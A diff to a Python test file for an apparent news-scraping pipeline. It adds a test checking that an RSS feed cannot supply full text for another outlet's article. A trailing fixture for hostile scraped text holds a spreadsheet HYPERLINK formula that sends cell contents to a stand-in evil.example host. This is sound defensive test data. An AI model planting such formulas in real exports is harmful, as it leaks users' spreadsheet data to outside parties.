@@ -156,6 +156,23 @@ def test_a_canonical_on_the_pages_own_site_or_an_outlet_alias_is_still_taken() -
     assert foreign.canonical_url is None and foreign.key_url == "https://someone.github.io/a"
 
 
+def test_a_full_text_feed_cannot_supply_another_sites_article() -> None:
+    """Item 3: a feed's full text is taken only for links on the feed's own site; others are fetched instead."""
+    from dragoman.acquire.monitor import parse_feed_page
+
+    text = "Фальшивый текст статьи, который лента выдаёт за материал другого издания."
+    rss = (
+        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:yandex="http://news.yandex.ru"><channel>'
+        f"<item><title>{FAKE_TITLE}</title><link>{KOMMERSANT_URL}</link><yandex:full-text>{text}</yandex:full-text></item>"
+        f"<item><title>Своя новость</title><link>https://news.example.org/a/1</link>"
+        f"<yandex:full-text>{text}</yandex:full-text></item></channel></rss>"
+    ).encode()
+    feed = RawPage(url="https://feeds.news.example.org/full.rss", body=rss, content_type="application/rss+xml")
+    foreign, own = parse_feed_page(feed, "rss", 1_000_000)
+    assert foreign.url == KOMMERSANT_URL and foreign.full_text is None  # fetched from kommersant.ru, not taken
+    assert own.full_text == text
+
+
 # -- a corpus of hostile scraped text, stored as the pipeline stores it --------------------------------
 
 FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Подробнее")'
